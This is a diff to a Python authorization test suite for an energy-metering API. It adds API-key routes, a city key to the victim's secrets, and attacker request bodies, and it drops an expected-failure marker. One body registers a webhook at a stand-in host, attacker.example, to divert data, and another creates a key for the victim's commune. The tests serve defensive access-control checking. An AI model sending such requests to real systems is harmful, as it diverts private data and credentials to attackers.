@@ -97,6 +97,10 @@ ROUTES: dict[tuple[str, str], str] = {
     ("GET", "/v1/webhooks"): OPERATOR,
     ("POST", "/v1/webhooks"): OPERATOR,
     ("DELETE", "/v1/webhooks/{webhook_id}"): OPERATOR,
+    ("GET", "/v1/keys"): OPERATOR,
+    ("POST", "/v1/keys"): OPERATOR,
+    ("POST", "/v1/keys/{key_id}/rotate"): OPERATOR,
+    ("DELETE", "/v1/keys/{key_id}"): OPERATOR,
     ("GET", "/v1/enedis/consent"): CONSENT_FLOW,
     ("GET", "/v1/enedis/callback"): CONSENT_FLOW,
     ("GET", "/v1/enedis/consents"): SELF,
@@ -151,6 +155,8 @@ class Victim:
     webhook_url: str
     webhook_secret: str
     box: SecretBox  # seals the operator's webhook secret (the walker's dispatcher)
+    key_id: str  # the city key of the victim's commune (what /v1/keys manages)
+    city_key: str
 
     def secrets(self) -> dict[str, str]:
         """Strings that must never reach a caller who is not the victim."""
@@ -169,6 +175,8 @@ class Victim:
             "operator webhook id": self.webhook_id,
             "operator webhook url": self.webhook_url,
             "operator webhook secret": self.webhook_secret,
+            "city key id": self.key_id,
+            "city key": self.city_key,
             "live load of 3 meters": repr(UNDER_THRESHOLD_LOAD_KW),
             "alert peak of 3 meters": repr(UNDER_THRESHOLD_PEAK_KW),
             "streamed alert load of 3 meters": repr(STREAMED_PEAK_KW),
@@ -255,6 +263,7 @@ def path_values(path: str, params: list[str], v: Victim, walk: Walk) -> list[dic
         "person_id": v.person_id,
         "account_id": v.account_id,
         "webhook_id": v.webhook_id,
+        "key_id": v.key_id,
         "iris": v.iris,
         "building_id": v.building,
         "parcel_idu": v.parcel,
@@ -304,6 +313,12 @@ def bodies(v: Victim) -> dict[tuple[str, str], Any]:
     return {
         ("POST", "/v1/auth/login"): {"email": v.email, "password": "guess"},
         ("POST", "/v1/webhooks"): {"url": "https://attacker.example/h", "iris": v.iris},
+        ("POST", "/v1/keys"): {
+            "label": "attacker",
+            "scope": "commune",
+            "scope_id": v.commune,
+        },
+        ("POST", "/v1/keys/{key_id}/rotate"): {"expires_in_days": 1},
         ("POST", "/v1/me/consents/{consent_id}/withdraw"): {"delete_readings": True},
         ("POST", "/v1/operator/consents/{consent_id}/decision"): {
             "decision": "verified",
@@ -572,6 +587,10 @@ async def plant(world: Any, put_readings: Any) -> tuple[Victim, Caller, Caller, 
             "SELECT account_id FROM api_accounts WHERE email = $1",
             world.territory.residents[0].email,
         )
+        city_key_id = await conn.fetchval(
+            "SELECT key_id FROM api_keys WHERE key_sha256 = $1",
+            auth.digest(world.commune_key),
+        )
     v = Victim(
         person_id=str(person),
         account_id=str(account),
@@ -588,6 +607,8 @@ async def plant(world: Any, put_readings: Any) -> tuple[Victim, Caller, Caller, 
         webhook_url=hook_url,
         webhook_secret=hook_secret,
         box=box,
+        key_id=str(city_key_id),
+        city_key=world.commune_key,
     )
 
     async def attacker() -> dict[str, str]:
@@ -634,6 +655,13 @@ async def _snapshot(world: Any, v: Victim) -> dict[str, Any]:
                 "SELECT count(*) FROM api_webhooks WHERE webhook_id = $1::uuid AND active",
                 v.webhook_id,
             ),
+            "keys": [
+                dict(r)
+                for r in await conn.fetch(
+                    "SELECT key_id, expires_at, revoked_at, replaced_by FROM api_keys "
+                    "ORDER BY key_id"
+                )
+            ],
         }
 
 
@@ -913,13 +941,6 @@ class SimilarHomesLeakError(AssertionError):
     """The similar-homes mean left with fewer delivery points than the threshold."""
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=SimilarHomesLeakError,
-    reason="known leak, fixed by the delivery-point counting of similar homes "
-    "(trust-points): today a PRM and its FluksoMeter count as two homes. Remove "
-    "this marker once that is merged (strict: it then fails as XPASS).",
-)
 async def test_walker_own_data_similar_homes_count_delivery_points(
     world, postgres_settings, put_readings
 ) -> None:
